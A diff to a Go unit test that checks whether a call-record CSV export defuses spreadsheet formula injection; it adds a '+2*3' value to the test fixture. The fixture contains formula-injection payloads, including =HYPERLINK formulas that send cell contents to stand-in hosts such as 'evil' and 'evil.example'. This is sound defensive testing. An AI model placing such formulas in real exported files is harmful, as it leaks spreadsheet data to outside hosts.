@@ -42,7 +42,7 @@ func TestCallsCSVDefusesFormulas(t *testing.T) {
 	start := time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC)
 	calls := []store.CallRecord{{ID: `=HYPERLINK("http://evil/"&A1,"x")`, Direction: store.Internal, Caller: "+4930123456",
 		CallerName: "@SUM(1)", Callee: `=HYPERLINK("//evil.example/x","y")`, Start: start, End: start,
-		Disposition: store.Failed, Cause: "-1+1"}}
+		Disposition: store.Failed, Cause: "-1+1", AnsweredBy: "+2*3"}}
 	var out bytes.Buffer
 	if err := writeCallsCSV(&out, calls); err != nil {
 		t.Fatal(err)
